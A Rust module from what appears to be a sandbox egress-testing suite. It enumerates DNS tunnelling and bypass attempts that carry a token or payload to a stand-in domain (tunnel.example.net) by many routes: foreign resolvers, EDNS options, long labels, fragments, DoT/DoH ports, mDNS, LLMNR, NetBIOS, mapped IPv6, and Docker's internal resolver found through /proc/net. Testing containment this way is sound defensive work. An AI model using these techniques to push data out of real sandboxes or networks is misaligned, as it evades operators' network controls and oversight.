//! DNS in every shape, to every server that one could think of (I7).

use std::{
    fs, io,
    net::{IpAddr, Ipv4Addr, Ipv6Addr, SocketAddr, ToSocketAddrs},
    thread,
    time::Duration,
};

use nix::libc;

use super::{Attempt, Context, address, any, connect_and_send, scoped, set};
use crate::{
    support::world::{API, DNS, FOREIGN_DNS, GATEWAY, INSIDE},
    sys as calls,
};

pub fn attempts() -> Vec<Attempt> {
    let attempt = |name, body| Attempt::new("DNS", name, body).both();
    let one =
        |name, body, family: usize| vec![Attempt::new("DNS", name, body).both()[family].clone()];
    [
        attempt("the nameserver, UDP", |c| {
            udp(c, DNS[c.family()], &question(c)).map(drop)
        })
        .to_vec(),
        attempt("the nameserver, TCP", |c| tcp(c, DNS[c.family()])).to_vec(),
        attempt("a foreign server, UDP", |c| {
            udp(c, FOREIGN_DNS[c.family()], &question(c)).map(drop)
        })
        .to_vec(),
        attempt("a foreign server, TCP", |c| tcp(c, FOREIGN_DNS[c.family()])).to_vec(),
        attempt("a foreign server, TCP fast open", fast_open).to_vec(),
        attempt("an allowed host as the server, UDP", |c| {
            udp(c, (API[c.family()], 53).into(), &question(c)).map(drop)
        })
        .to_vec(),
        attempt("an allowed host as the server, TCP", |c| {
            tcp(c, (API[c.family()], 53).into())
        })
        .to_vec(),
        attempt("the gateway as the server, UDP", |c| {
            udp(c, (GATEWAY[c.family()], 53).into(), &question(c)).map(drop)
        })
        .to_vec(),
        attempt("a resolver on loopback, UDP", |c| {
            udp(c, (loopback(c.family()), 53).into(), &question(c)).map(drop)
        })
        .to_vec(),
        attempt("a resolver on loopback, TCP", |c| {
            tcp(c, (loopback(c.family()), 53).into())
        })
        .to_vec(),
        attempt("the own address as the server, UDP", |c| {
            udp(c, (INSIDE[c.family()], 53).into(), &question(c)).map(drop)
        })
        .to_vec(),
        attempt("from port 53 to port 53", from_53).to_vec(),
        attempt("long labels", |c| {
            udp(c, DNS[c.family()], &long(c)).map(drop)
        })
        .to_vec(),
        attempt("an EDNS option", |c| {
            udp(c, DNS[c.family()], &edns(c)).map(drop)
        })
        .to_vec(),
        attempt("types TXT, NULL, ANY, AXFR", |c| kinds(c, DNS[c.family()])).to_vec(),
        attempt("an update and a notification", |c| {
            opcodes(c, DNS[c.family()])
        })
        .to_vec(),
        attempt("two questions in one", |c| {
            udp(c, DNS[c.family()], &two(c)).map(drop)
        })
        .to_vec(),
        attempt("no DNS at all, at port 53", |c| {
            udp(c, DNS[c.family()], &c.payload()).map(drop)
        })
        .to_vec(),
        attempt("in fragments", in_fragments).to_vec(),
        attempt("an allowed name, with an EDNS option", listed_with_option).to_vec(),
        attempt("a name below an allowed one", |c| {
            let question = query(&format!("{}.api.example.org", c.token), 1);
            udp(c, DNS[c.family()], &question).map(drop)
        })
        .to_vec(),
        attempt("over TLS and QUIC (853)", |c| other_port(c, 853)).to_vec(),
        attempt("over HTTPS and HTTP/3 (443)", |c| other_port(c, 443)).to_vec(),
        attempt("at other ports (54, 5053, 5353, 5355, 8053)", other_ports).to_vec(),
        attempt("multicast DNS", |c| multicast(c, 5353)).to_vec(),
        attempt("link-local multicast name resolution", |c| {
            multicast(c, 5355)
        })
        .to_vec(),
        attempt("UDP-Lite to port 53", udp_lite).to_vec(),
        attempt("by an IPv6 socket's mapped address", mapped)[1..].to_vec(),
        one(
            "Docker's resolver at 127.0.0.11, UDP",
            |c| udp(c, docker(), &question(c)).map(drop),
            0,
        ),
        one(
            "Docker's resolver at 127.0.0.11, TCP",
            |c| tcp(c, docker()),
            0,
        ),
        one(
            "Docker's resolver by the port behind its nat rule, UDP",
            |c| docker_port(c, "/proc/net/udp"),
            0,
        ),
        one(
            "Docker's resolver by the port behind its nat rule, TCP",
            |c| docker_port(c, "/proc/net/tcp"),
            0,
        ),
        one("Docker's resolver, mapped into IPv6", mapped_docker, 1),
        one(
            "systemd's resolver at 127.0.0.53",
            |c| udp(c, (Ipv4Addr::new(127, 0, 0, 53), 53).into(), &question(c)).map(drop),
            0,
        ),
        one("any address of loopback", any_loopback, 0),
        one("NetBIOS name service, broadcast", netbios, 0),
        vec![Attempt::new("DNS", "the C library's resolver", library)],
    ]
    .concat()
}

fn loopback(family: usize) -> IpAddr {
    [Ipv4Addr::LOCALHOST.into(), Ipv6Addr::LOCALHOST.into()][family]
}

fn docker() -> SocketAddr {
    (Ipv4Addr::new(127, 0, 0, 11), 53).into()
}

/// A query (RFC 1035, section 4).
pub(super) fn query(name: &str, kind: u16) -> Vec<u8> {
    let mut octets = vec![0x12, 0x34, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0];
    for label in name.split('.') {
        octets.push(u8::try_from(label.len()).unwrap());
        octets.extend(label.as_bytes());
    }
    octets.push(0);
    octets.extend(kind.to_be_bytes());
    octets.extend([0, 1]);
    octets
}

pub(super) fn question(c: &Context) -> Vec<u8> {
    query(&format!("{}.tunnel.example.net", c.token), 1)
}

fn long(c: &Context) -> Vec<u8> {
    let label = c.token.repeat(4);
    let label = &label[..63];
    query(&[label, label, label, "tunnel.example.net"].join("."), 16)
}

/// The token in an option for local use (RFC 6891, section 9).
fn with_option(c: &Context, mut octets: Vec<u8>) -> Vec<u8> {
    octets[11] = 1;
    let payload = c.payload();
    let length = u16::try_from(payload.len()).unwrap();
    octets.extend([0, 0, 41, 0x10, 0, 0, 0, 0, 0]);
    octets.extend((length + 4).to_be_bytes());
    octets.extend(65_001_u16.to_be_bytes());
    octets.extend(length.to_be_bytes());
    octets.extend(payload);
    octets
}

fn edns(c: &Context) -> Vec<u8> {
    with_option(c, query("tunnel.example.net", 1))
}

fn two(c: &Context) -> Vec<u8> {
    let mut octets = query("api.example.org", 1);
    octets[5] = 2;
    octets.extend(&question(c)[12..]);
    octets
}

fn udp(c: &Context, to: SocketAddr, octets: &[u8]) -> io::Result<usize> {
    let sent = c.udp()?.send_to(octets, to);
    settle(to);
    sent
}

/// A resolver on loopback takes a moment to forward.
fn settle(to: SocketAddr) {
    let ip = to.ip().to_canonical();
    if ip.is_loopback() || INSIDE.contains(&ip) {
        thread::sleep(Duration::from_millis(15));
    }
}

fn tcp(c: &Context, to: SocketAddr) -> io::Result<()> {
    let query = question(c);
    let length = u16::try_from(query.len()).unwrap();
    let octets = [&length.to_be_bytes(), &query[..]].concat();
    // From its own port, so that a first segment alone is known again.
    let socket = c.tcp()?;
    set(&socket, libc::SOL_SOCKET, libc::SO_REUSEADDR, 1)?;
    calls::bind(&socket, &address((any(to.is_ipv6()), c.port).into()))?;
    let sent = connect_and_send(socket, &address(to), &octets);
    settle(to);
    sent
}

fn fast_open(c: &Context) -> io::Result<()> {
    const TCP_FASTOPEN_NO_COOKIE: i32 = 34;
    let socket = c.tcp()?;
    set(&socket, libc::IPPROTO_TCP, TCP_FASTOPEN_NO_COOKIE, 1)?;
    let to = address(FOREIGN_DNS[c.family()]);
    calls::send(&socket, &question(c), libc::MSG_FASTOPEN, &to, &[]).map(drop)
}

fn from_53(c: &Context) -> io::Result<()> {
    let socket = c.udp()?;
    set(&socket, libc::SOL_SOCKET, libc::SO_REUSEADDR, 1)?;
    calls::bind(&socket, &address((any(c.family() == 1), 53).into()))?;
    socket
        .send_to(&question(c), FOREIGN_DNS[c.family()])
        .map(drop)
}

fn kinds(c: &Context, to: SocketAddr) -> io::Result<()> {
    let name = format!("{}.tunnel.example.net", c.token);
    let mut last = Ok(());
    for kind in [16, 10, 255, 252, 5, 65, 1000] {
        last = udp(c, to, &query(&name, kind)).map(drop);
    }
    last
}

fn opcodes(c: &Context, to: SocketAddr) -> io::Result<()> {
    let mut last = Ok(());
    for opcode in [4_u8, 5, 6] {
        let mut octets = question(c);
        octets[2] = opcode << 3;
        last = udp(c, to, &octets).map(drop);
    }
    last
}

fn in_fragments(c: &Context) -> io::Result<()> {
    let mut octets = question(c);
    octets.resize(4000, 0);
    octets.extend(c.payload());
    udp(c, DNS[c.family()], &octets).map(drop)
}

fn listed_with_option(c: &Context) -> io::Result<()> {
    let octets = with_option(c, query("api.example.org", 1));
    udp(c, DNS[c.family()], &octets).map(drop)
}

fn other_port(c: &Context, port: u16) -> io::Result<()> {
    let mut last = Ok(());
    for server in [DNS[c.family()], FOREIGN_DNS[c.family()]] {
        let to = SocketAddr::new(server.ip(), port);
        last = tcp(c, to);
        udp(c, to, &question(c))?;
    }
    last
}

fn other_ports(c: &Context) -> io::Result<()> {
    let mut last = Ok(());
    for port in [54, 5053, 5353, 5355, 8053] {
        let to = SocketAddr::new(FOREIGN_DNS[c.family()].ip(), port);
        last = udp(c, to, &question(c)).map(drop);
    }
    last
}

fn multicast(c: &Context, port: u16) -> io::Result<()> {
    let group: IpAddr = match (port, c.family()) {
        (5353, 0) => Ipv4Addr::new(224, 0, 0, 251).into(),
        (_, 0) => Ipv4Addr::new(224, 0, 0, 252).into(),
        (5353, _) => Ipv6Addr::new(0xff02, 0, 0, 0, 0, 0, 0, 0xfb).into(),
        (..) => Ipv6Addr::new(0xff02, 0, 0, 0, 0, 0, 1, 3).into(),
    };
    let interface = nix::net::if_::if_nametoindex("eth0")?;
    let to = scoped((group, port).into(), interface);
    calls::send(&c.udp()?, &question(c), 0, &to, &[]).map(drop)
}

fn udp_lite(c: &Context) -> io::Result<()> {
    let socket = c.socket(libc::SOCK_DGRAM, libc::IPPROTO_UDPLITE)?;
    calls::send(&socket, &question(c), 0, &address(DNS[c.family()]), &[]).map(drop)
}

fn map(to: SocketAddr) -> SocketAddr {
    match to.ip() {
        IpAddr::V4(v4) => (v4.to_ipv6_mapped(), to.port()).into(),
        IpAddr::V6(_) => to,
    }
}

fn mapped(c: &Context) -> io::Result<()> {
    udp(c, map(DNS[0]), &question(c)).map(drop)
}

fn mapped_docker(c: &Context) -> io::Result<()> {
    udp(c, map(docker()), &question(c)).map(drop)
}

/// The nat rule cannot be read without a privilege; what listens at its other end can.
fn docker_ports(table: &str) -> io::Result<Vec<u16>> {
    // Addresses are in the byte order of the machine: proc_net_tcp(5).
    let own = format!("{:08X}:", u32::from_ne_bytes([127, 0, 0, 11]));
    Ok(fs::read_to_string(table)?
        .lines()
        .filter_map(|line| line.split_whitespace().nth(1)?.strip_prefix(&own))
        .filter_map(|port| u16::from_str_radix(port, 16).ok())
        .collect())
}

fn docker_port(c: &Context, table: &str) -> io::Result<()> {
    let mut last = Err(io::Error::other("nobody listens at 127.0.0.11"));
    for port in docker_ports(table)? {
        let to = (Ipv4Addr::new(127, 0, 0, 11), port).into();
        last = if table.ends_with("udp") {
            udp(c, to, &question(c)).map(drop)
        } else {
            tcp(c, to)
        };
    }
    last
}

fn any_loopback(c: &Context) -> io::Result<()> {
    let mut last = Ok(());
    for end in [2, 11, 53, 54, 100, 254] {
        last = udp(c, (Ipv4Addr::new(127, 0, 0, end), 53).into(), &question(c)).map(drop);
    }
    last
}

fn netbios(c: &Context) -> io::Result<()> {
    let socket = c.udp()?;
    socket.set_broadcast(true)?;
    let to = (Ipv4Addr::new(10, 77, 0, 255), 137);
    socket.send_to(&c.payload(), to).map(drop)
}

fn library(c: &Context) -> io::Result<()> {
    let name = format!("{}.tunnel.example.net", c.token);
    match (name.as_str(), 80).to_socket_addrs() {
        Ok(_) => Ok(()),
        Err(error) => Err(io::Error::other(error.to_string())),
    }
}
